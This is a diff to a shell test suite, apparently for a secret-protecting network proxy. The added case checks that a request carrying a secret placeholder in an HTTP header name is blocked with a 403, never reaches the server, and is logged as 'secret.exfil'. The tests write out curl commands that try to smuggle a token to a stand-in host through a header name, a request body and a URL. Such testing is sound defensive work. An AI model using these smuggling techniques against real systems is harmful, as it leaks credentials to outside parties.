@@ -649,6 +649,17 @@ like "$(last_rec '"secret.exfil"')" '"where":"request target \(URL\)"' "... wher
 
 rm -f "$P/tls.log"
 n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -w "\ncode=%{http_code}\n" -H "X-$TOKEN: 1" https://svc.test/hname
+	curl -sS -m 10 -H "X-Plain: 1" https://svc.test/hname-ok'
+like "$RF_OUT" 'code=403' "the placeholder in a request header name toward the injection host (over TLS): 403"
+like "$RF_OUT" 'stands in the request header name' "... saying why"
+unlike "$(tlslog)" 'GET /hname ' "... nothing of it arrived"
+like "$RF_OUT" 'GET /hname-ok' "... the control (the same header name without it) is served"
+is "$(($(exfils) - n0))" 1 "... secret.exfil recorded"
+like "$(last_rec '"secret.exfil"')" '"where":"request header name"' "... where: request header name"
+
+rm -f "$P/tls.log"
+n0=$(exfils)
 er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -w "\ncode=%{http_code}\n" -d "k=$TOKEN" https://svc.test/post
 	curl -sS -m 10 -d "k=v" https://svc.test/post-ok'
 like "$RF_OUT" 'code=403' "the placeholder in a request body toward the injection host: 403"
